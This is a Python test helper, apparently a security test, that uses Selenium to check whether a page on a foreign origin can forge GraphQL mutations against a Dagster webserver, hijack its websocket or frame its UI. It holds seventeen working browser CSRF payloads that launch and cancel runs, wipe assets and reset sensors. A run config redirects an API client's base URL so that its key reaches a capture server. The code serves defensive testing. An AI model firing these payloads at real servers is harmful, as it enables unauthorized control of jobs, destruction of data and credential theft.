"""Pages of others that try what a browser lets them try against a Dagster webserver, and what came of it."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from selenium import webdriver
from selenium.common.exceptions import WebDriverException

ASSET = "unique_chats"
SENSOR = "coverage_backfill_sensor"
_REPOSITORY = '{repositoryLocationName: "keyword_assets", repositoryName: "__repository__"'
# Under another name than the server's; the browser of the test takes it for this machine.
STRANGER = "stranger.test"
WAYS = (
    "img",
    "script",
    "get",
    "form_text",
    "form_urlencoded",
    "form_multipart",
    "form_text_json",
    "form_get",
    "no_cors",
    "no_cors_mixed",
    "beacon",
    "json",
    "graphql_type",
    "put",
    "iframe",
    "window",
    "websocket",
)
# Each takes the server's address and a mutation, and does not care whether the answer can be read.
_PAGE = """
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const frame = (name) => {
  const made = document.createElement("iframe");
  made.name = name; document.body.append(made); return made;
};
const form = (action, method, kind, fields) => {
  const made = document.createElement("form");
  Object.assign(made, {action, method, target: "f" + Math.random()});
  if (kind) made.enctype = kind;
  frame(made.target);
  for (const [name, value] of fields) {
    const field = document.createElement("input");
    field.type = "hidden"; field.name = name; field.value = value; made.append(field);
  }
  document.body.append(made); made.submit();
};
const read = [];
const kept = async (asked) => { try { read.push(await (await asked).text()); } catch (error) { read.push(""); } };
const there = (base, query) => base + "/graphql?query=" + encodeURIComponent(query);
const ways = {
  img: (base, query) => { new Image().src = there(base, query); },
  script: (base, query) => {
    const made = document.createElement("script"); made.src = there(base, query); document.body.append(made);
  },
  get: (base, query) => fetch(there(base, query), {mode: "no-cors", credentials: "include"}),
  form_text: (base, query) => form(there(base, query), "POST", "text/plain", [["a", "b"]]),
  form_urlencoded: (base, query) => form(there(base, query), "POST", "", [["query", query]]),
  form_multipart: (base, query) => form(there(base, query), "POST", "multipart/form-data", [["query", query]]),
  form_text_json: (base, query) =>
    form(base + "/graphql", "POST", "text/plain", [[JSON.stringify({query, a: ""}).slice(0, -2), '"}']]),
  form_get: (base, query) => form(base + "/graphql", "GET", "", [["query", query]]),
  no_cors: (base, query) => fetch(there(base, query), {method: "POST", mode: "no-cors", body: "x"}),
  // Dagster looks for "application/json" anywhere in the header; a browser asks nobody for leave to send text/plain.
  no_cors_mixed: (base, query) => fetch(base + "/graphql", {
    method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({query}),
    headers: {"Content-Type": "text/plain; application/json"}}),
  beacon: (base, query) => navigator.sendBeacon(there(base, query), "x"),
  json: (base, query) => kept(fetch(base + "/graphql", {
    method: "POST", body: JSON.stringify({query}), headers: {"Content-Type": "application/json"}})),
  graphql_type: (base, query) => kept(fetch(base + "/graphql", {
    method: "POST", body: query, headers: {"Content-Type": "application/graphql"}})),
  put: (base, query) => kept(fetch(there(base, query), {method: "PUT", body: "x"})),
  iframe: (base, query) => { frame("f" + Math.random()).src = there(base, query); },
  window: (base, query) => { window.open(there(base, query)); },
  websocket: (base, query) => new Promise((done) => {
    const socket = new WebSocket(base.replace("http", "ws") + "/graphql", "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({type: "connection_init", payload: {}}));
      socket.send(JSON.stringify({type: "start", id: "1", payload: {query, variables: {}}}));
      setTimeout(() => { socket.close(); done(); }, 500);
    };
    socket.onmessage = (message) => read.push(message.data);
    socket.onerror = () => done();
  }),
};
const run = async () => {
  for (const [way, base, query] of arguments[0]) {
    try { await Promise.race([ways[way](base, query), wait(3000)]); } catch (error) { /* as it may be */ }
  }
  await wait(500);
  return read.filter((text) => text);
};
run().then(arguments[arguments.length - 1]);
"""
_READS = (
    "{runsOrError { ... on Runs { results { runId runConfigYaml } } }}",
    "{assetNodes { assetMaterializations(limit: 1) { metadataEntries { label } } }}",
)
_STATE = """
query State($sensor: SensorSelector!) {
  runsOrError { ... on Runs { results { runId status tags { key value } } } }
  sensorOrError(sensorSelector: $sensor) { ... on Sensor { sensorState { status } nextTick { timestamp }
    sensorState { typeSpecificData { ... on SensorData { lastCursor } } } } }
  assetNodes(assetKeys: [{path: "unique_chats"}]) { assetMaterializations { timestamp partition } }
}
"""


def mutations(way: str, day: str, run_id: str, config: dict[str, Any] | None = None) -> dict[str, str]:
    """What somebody would like to do, by name."""
    run_config = f", runConfigData: {json.dumps(json.dumps(config))}" if config else ""
    tags = f'[{{key: "attack", value: "{way}"}}, {{key: "dagster/partition", value: "{day}"}}]'
    selector = f'selector: {_REPOSITORY}, jobName: "daily_keywords_job"}}'
    sensor = f'{_REPOSITORY}, sensorName: "{SENSOR}"}}'
    return {
        "launch": f"mutation {{launchRun(executionParams: {{{selector}, "
        f"executionMetadata: {{tags: {tags}}}{run_config}}}) {{__typename}}}}",
        "terminate": f'mutation {{terminateRun(runId: "{run_id}", terminatePolicy: MARK_AS_CANCELED_IMMEDIATELY)'
        " {__typename}}",
        "wipe": f'mutation {{wipeAssets(assetPartitionRanges: [{{assetKey: {{path: ["{ASSET}"]}}}}]) {{__typename}}}}',
        "cursor": f'mutation {{setSensorCursor(sensorSelector: {sensor}, cursor: "{way}") {{__typename}}}}',
        "switch": f"mutation {{startSensor(sensorSelector: {sensor}) {{__typename}}}}",
        "report": f"mutation {{reportRunlessAssetEvents(eventParams: {{eventType: ASSET_MATERIALIZATION, assetKey: "
        f'{{path: ["{ASSET}"]}}, partitionKeys: ["{day}"], description: "{way}"}}) {{__typename}}}}',
    }


def hostile_config(url: str) -> dict[str, Any]:
    """What once sent the key and the questions to this address."""
    rest = {"model": "HCX-007", "qpm": 60, "tpm": 60_000, "quota_window_seconds": 1.0, "timeout_seconds": 5.0}
    return {"resources": {"hcx": {"config": {"base_url": url, "max_retries": 0, **rest}}}}


def state(ask: Callable[..., Any]) -> Any:
    """All that these attacks could change, as the server has it."""
    return ask(
        _STATE,
        sensor={
            "repositoryLocationName": "keyword_assets",
            "repositoryName": "__repository__",
            "sensorName": SENSOR,
        },
    )


def attempts(server: str, day: str, run_id: str) -> list[tuple[str, str, str]]:
    """Way, address and query: a launch by every way, the others by two that need no leave, and some reading."""
    every = [(way, server, mutations(way, day, run_id)["launch"]) for way in WAYS]
    others = [
        (way, server, query)
        for way in ("img", "no_cors_mixed", "websocket")
        for what, query in mutations(way, day, run_id).items()
        if what != "launch"
    ]
    reads = [(way, server, query) for way in ("json", "websocket") for query in _READS]
    reports = f"{server}/report_asset_materialization/{ASSET}?partition={day}&x="
    return [*every, *others, *reads, ("no_cors", reports, ""), ("beacon", reports, "")]


def attack(driver: webdriver.Chrome, page: str, tries: list[tuple[str, str, str]]) -> list[str]:
    """Open the page and try all; returns what it could read of the answers, and closes what has opened of it."""
    own, before = driver.current_window_handle, driver.window_handles
    driver.get(page)
    driver.set_script_timeout(120)
    try:
        read: list[str] = driver.execute_async_script(_PAGE, tries)
    finally:
        for other in set(driver.window_handles).difference(before):
            driver.switch_to.window(other)
            driver.close()
        driver.switch_to.window(own)
    return read


def is_shown_in_a_frame(driver: webdriver.Chrome, page: str, server: str) -> bool:
    """Whether the page can lay the server's UI under something that people click on."""
    driver.get(page)
    driver.execute_script(
        "const f = document.createElement('iframe'); f.src = arguments[0]; document.body.append(f);", f"{server}/runs"
    )
    driver.implicitly_wait(3)
    try:
        driver.switch_to.frame(0)
        return bool(driver.execute_script("return !!document.getElementById('root') || document.scripts.length > 2"))
    except WebDriverException:
        return False
    finally:
        driver.switch_to.default_content()
        driver.implicitly_wait(0)


@contextmanager
def strangers_page() -> Iterator[tuple[int, list[str]]]:
    """A server of somebody else's: an empty page on whatever path; what else is sent to it is kept."""
    seen: list[str] = []

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"<!doctype html><title>stranger</title><body>hello</body>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            seen.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_error(400)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()
